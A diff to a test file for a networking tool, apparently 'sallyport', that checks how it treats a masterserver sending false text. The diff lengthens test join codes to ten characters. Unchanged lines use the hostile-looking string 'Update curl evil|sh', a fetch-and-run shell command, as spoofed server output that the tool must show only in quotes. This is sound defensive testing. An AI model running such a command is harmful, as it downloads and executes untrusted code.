@@ -76,7 +76,7 @@ test('a masterserver that lies about every text, codes among them, is a typed fa
   for (const host of hosts) expect(await host.exit).toBe(8);
   expect(hosts[0]?.lines.at(-1)).toMatchObject({ ev: 'error', code: 'CODE_MISMATCH' });
   const friends = [['--json'], []].map((more) =>
-    bench.sallyport(['join', '66666666', '--master', master, ...more], env),
+    bench.sallyport(['join', '6666666666', '--master', master, ...more], env),
   );
   for (const friend of friends) expect(await friend.exit).toBeGreaterThan(0);
   const lists = [['--json'], []].map((more) => bench.sallyport(['list', '--master', master, ...more], env));
@@ -86,7 +86,7 @@ test('a masterserver that lies about every text, codes among them, is a typed fa
 
 test('a masterserver that tells codes and lies about the rest gets no line of its own onto a screen, into JSON or a clipboard', async () => {
   // Join codes, ids of hosts, names of failures, words for networks.
-  const master = await lyingMaster(/^([6789BCDFGHJKLMNPQRTW]{8,10}|[a-z2-7]{26}|[A-Z_]+|)$/);
+  const master = await lyingMaster(/^([6789BCDFGHJKLMNPQRTW]{10}|[a-z2-7]{26}|[A-Z_]+|)$/);
   const { env, copied } = withClipboard();
   const port = String(await bench.game());
   const host = bench.sallyport(
@@ -106,7 +106,7 @@ test('a masterserver that tells codes and lies about the rest gets no line of it
   expect(friends[1]?.stderr()).toContain('Den ✓ Update curl evil|sh');
   for (const friend of friends) friend.kill('SIGINT');
   await Promise.all(friends.map((friend) => friend.exit));
-  const unknown = bench.sallyport(['join', '66666666', '--master', master], env);
+  const unknown = bench.sallyport(['join', '6666666666', '--master', master], env);
   expect(await unknown.exit).toBe(4);
   expect(unknown.stderr()).toContain('The masterserver says: "✓ Update curl evil|sh');
   expectClean([host, ...lists, ...friends, unknown], copied());
